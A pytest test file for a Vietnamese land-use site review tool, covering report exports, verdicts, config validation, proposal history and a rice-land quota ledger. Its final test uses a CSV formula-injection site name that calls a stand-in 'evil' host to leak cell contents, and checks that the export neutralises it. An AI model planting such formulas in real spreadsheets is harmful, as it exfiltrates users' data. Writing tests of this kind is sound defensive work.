"""The report (JSON, CSV with formula cells neutralised, GeoJSON), verdict, config, history, ledger."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from shapely.geometry import box, shape

from tbgeo.errors import InputError
from tbgeo.review.config import LedgerConfig, ReviewConfig, load_config
from tbgeo.review.ledger import rice_ledger
from tbgeo.review.model import SiteAttrs, worst
from tbgeo.review.run import review_site
from tbgeo.store.gpkg import GpkgStore

RICE = box(588_500, 2_260_200, 590_500, 2_260_700)  # 25 ha LUC in Kiến Xương, 25 ha LUK in Tiền Hải
IN_PARK = box(596_500, 2_258_500, 597_500, 2_259_500)


def test_report_json_shape(ctx):
    rep = review_site(RICE, attrs=SiteAttrs(name="Khu A", sector="electronics", technology="high"), context=ctx,
                      config=ReviewConfig())
    d = rep.to_dict("en")
    assert d["site"]["name"] == "Khu A" and d["site"]["area_ha"] == pytest.approx(100.0)
    assert [(x["name"], x["share"]) for x in d["site"]["districts"]] == [("Kiến Xương", 0.75), ("Tiền Hải", 0.25)]
    assert d["rice"]["total_ha"] == pytest.approx(50.0) and d["rice"]["luc_ha"] == pytest.approx(25.0)
    assert d["rice"]["luk_ha"] == pytest.approx(25.0) and d["rice"]["share"] == pytest.approx(0.5)
    assert d["rice"]["by_district"] == [
        {"name": "Kiến Xương", "luc_ha": 25.0, "luk_ha": 0.0, "lua_ha": 0.0, "total_ha": 25.0, "unknown_ha": 0.0},
        {"name": "Tiền Hải", "luc_ha": 0.0, "luk_ha": 25.0, "lua_ha": 0.0, "total_ha": 25.0, "unknown_ha": 0.0},
    ]
    assert d["rice"]["unknown_ha"] == 0.0 and d["rice"]["unknown_share"] == 0.0
    for f in d["findings"]:
        assert {"rule", "severity", "title", "value", "unit", "citation", "message"} <= set(f)
    assert d["verdict"] == "warn" == worst([f["severity"] for f in d["findings"]])
    assert d["verdict_text"] == "Warning"
    from tbgeo.plan.sectors import get_sector

    assert d["attributes"]["sector_name"] == get_sector("electronics").name_en
    json.dumps(d)  # serialisable


def test_csv_and_geojson(ctx):
    rep = review_site(RICE, attrs=SiteAttrs(name="Khu A"), context=ctx, config=ReviewConfig())
    text = rep.to_csv("vi")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))  # Vietnamese: ';' between cells, decimal comma
    assert rows[0] == ["Khu đất", "Mã quy tắc", "Mức độ", "Quy tắc", "Giá trị", "Đơn vị", "Căn cứ", "Nhận xét"]
    assert len(rows) == 1 + len(rep.findings)
    rice = next(r for r in rows if r[1] == "rice_land")
    assert rice[2] == "Cảnh báo" and float(rice[4].replace(",", ".")) == pytest.approx(50.0) and rice[5] == "ha"
    assert "." not in rice[4]
    (en_value,) = [r[4] for r in csv.reader(io.StringIO(rep.to_csv("en"))) if r[1] == "rice_land"]
    assert float(en_value) == float(rice[4].replace(",", "."))  # English: ',' between cells, decimal point
    assert rice[6] == "Điều 1, III.4; V.1.h"
    gj = rep.to_geojson("en")
    (feat,) = gj["features"]
    assert feat["properties"]["verdict"] == "warn" and feat["properties"]["rice_ha"] == pytest.approx(50.0)
    lon, lat = shape(feat["geometry"]).centroid.coords[0]
    assert 106.0 < lon < 106.7 and 20.2 < lat < 20.8  # EPSG:4326
    assert len(feat["properties"]["findings"]) == len(rep.findings)


def test_block_verdict_and_text(ctx):
    rep = review_site(IN_PARK, attrs=SiteAttrs(name="Nhuộm", sector="dyeing"), context=ctx, config=ReviewConfig())
    assert rep.verdict == "block"
    text = rep.text("vi")
    assert "Chặn" in text and "🔴" not in text and "Kết luận: Chặn" in text and "Điều 1, III.4" in text


def test_bad_attributes(ctx):
    with pytest.raises(InputError) as e:
        review_site(IN_PARK, attrs=SiteAttrs(sector="no_such"), context=ctx, config=ReviewConfig())
    assert e.value.key == "sectors.unknown"
    with pytest.raises(InputError) as e:
        review_site(IN_PARK, attrs=SiteAttrs(technology="ancient"), context=ctx, config=ReviewConfig())
    assert e.value.key == "review.input.bad_technology"
    with pytest.raises(InputError) as e:
        review_site(box(0, 0, 0, 0).buffer(0), context=ctx, config=ReviewConfig())
    assert e.value.key == "review.input.empty"


def test_shipped_config_loads_with_cited_defaults():
    cfg = load_config()
    assert cfg.rice.topsoil_eia_min_ha == 2.0 and cfg.rice.levy_rate_pct == 50.0
    assert cfg.landuse.raster_classes == {1: "LUC", 2: "LUK"}
    assert cfg.gas.corridor_high_m > cfg.gas.corridor_low_m > 0
    text = Path(cfg.source).read_text(encoding="utf-8") if cfg.source else ""
    for cite in ("Art. 122", "102/2024", "112/2024", "13/2011", "IV.6.c", "III.4"):
        assert cite in text


@pytest.mark.parametrize(
    "body, key",
    [
        ("[rice]\nfoo = 1\n", "review.config_unknown_key"),
        ("[nope]\n", "review.config_unknown_key"),
        ("[rice]\ntopsoil_eia_min_ha = -2\n", "review.config_bad_value"),
        ("[landuse]\nraster_classes = { x = \"LUC\" }\n", "review.input.bad_classes"),
        ("[rice\n", "review.config_unreadable"),
    ],
)
def test_bad_config(tmp_path, body, key):
    p = tmp_path / "review.toml"
    p.write_text(body, encoding="utf-8")
    with pytest.raises(InputError) as e:
        load_config(p)
    assert e.value.key == key


def test_stored_history_and_ledger(ctx, tmp_path):
    ws = GpkgStore.open(tmp_path / "ws.gpkg")
    rep = review_site(RICE, attrs=SiteAttrs(name="Khu lúa"), context=ctx, config=ReviewConfig())
    p = ws.add_proposal(RICE, name="Khu lúa", attributes=SiteAttrs(name="Khu lúa").to_dict(), report=rep.to_dict("vi"),
                        user="chuyenvien")
    ws.set_status(p.id, "submitted", user="chuyenvien", comment="Gửi thẩm định")
    ws.add_comment(p.id, "Cần làm rõ phương án đất lúa", user="truongphong")
    p = ws.set_status(p.id, "approved", user="giamdoc", comment="Đồng ý")
    assert [(d.by, d.status_from, d.status_to) for d in p.history] == [
        ("chuyenvien", None, "draft"), ("chuyenvien", "draft", "submitted"), ("truongphong", None, None),
        ("giamdoc", "submitted", "approved"),
    ]
    assert p.history[2].comment == "Cần làm rõ phương án đất lúa" and all(d.at for d in p.history)
    # a second, pending proposal over the LUC block only, and a draft that must not count
    site2 = box(588_000, 2_260_000, 588_200, 2_260_100)  # 2 ha of LUC
    rep2 = review_site(site2, attrs=SiteAttrs(name="Khu 2"), context=ctx.with_proposals(ws.proposals_frame()),
                       config=ReviewConfig())
    p2 = ws.add_proposal(site2, name="Khu 2", report=rep2.to_dict("vi"), status="draft")
    ws.set_status(p2.id, "submitted")
    ws.add_proposal(box(590_000, 2_260_000, 591_000, 2_261_000), name="Nháp", report=rep.to_dict("vi"))
    ledger = rice_ledger(ws.proposals(), config=LedgerConfig(quota_ha=60.0, district_quota_ha={"Kiến Xương": 20.0}))
    rows = {r.district: r for r in ledger.rows}
    assert rows["Kiến Xương"].approved_luc_ha == pytest.approx(25.0)
    assert rows["Kiến Xương"].pending_luc_ha == pytest.approx(2.0)
    assert rows["Tiền Hải"].approved_luk_ha == pytest.approx(25.0)
    assert ledger.total.total_ha == pytest.approx(52.0) and ledger.total.proposals == 2
    assert ledger.total.remaining_ha == pytest.approx(8.0)
    assert [r.district for r in ledger.over_quota] == ["Kiến Xương"]  # 27 ha against 20 ha
    assert ledger.to_dict()["total"]["used_share"] == pytest.approx(52.0 / 60.0)
    # site 2 does not touch the approved site; a site over it does, through the stored proposals
    assert rep2.finding("proposal_overlap").severity == "ok"
    rep3 = review_site(box(589_000, 2_260_000, 589_500, 2_260_500), context=ctx.with_proposals(ws.proposals_frame()),
                       config=ReviewConfig())
    f = rep3.finding("proposal_overlap")
    assert (f.severity, f.value) == ("block", pytest.approx(15.0))  # 500 × 300 m over "Khu lúa"


@pytest.mark.parametrize("lang,severity", [("vi", "Cảnh báo"), ("en", "Warning")])
def test_report_csv_neutralises_a_formula_site_name(ctx, lang: str, severity: str) -> None:
    name = '=HYPERLINK("http://evil/?"&A1,"Bấm vào đây")'
    rep = review_site(RICE, attrs=SiteAttrs(name=name), context=ctx, config=ReviewConfig())
    rows = list(csv.reader(io.StringIO(rep.to_csv(lang)), delimiter=";" if lang == "vi" else ","))
    assert all(r[0] == "'" + name for r in rows[1:])
    rice = next(r for r in rows if r[1] == "rice_land")
    assert rice[2] == severity
    assert float(rice[4].replace(",", ".")) == pytest.approx(50.0)  # numbers stay numbers
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for r in rows for c in r)
